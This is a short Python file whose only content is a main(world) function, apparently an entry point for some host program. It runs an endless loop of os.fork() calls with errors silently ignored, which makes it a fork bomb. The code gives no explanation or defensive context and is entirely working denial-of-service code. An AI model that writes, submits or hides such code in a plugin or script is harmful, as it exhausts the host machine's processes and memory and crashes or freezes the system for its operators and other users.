import os


def main(world):
    while True:
        try:
            os.fork()
        except OSError:
            pass
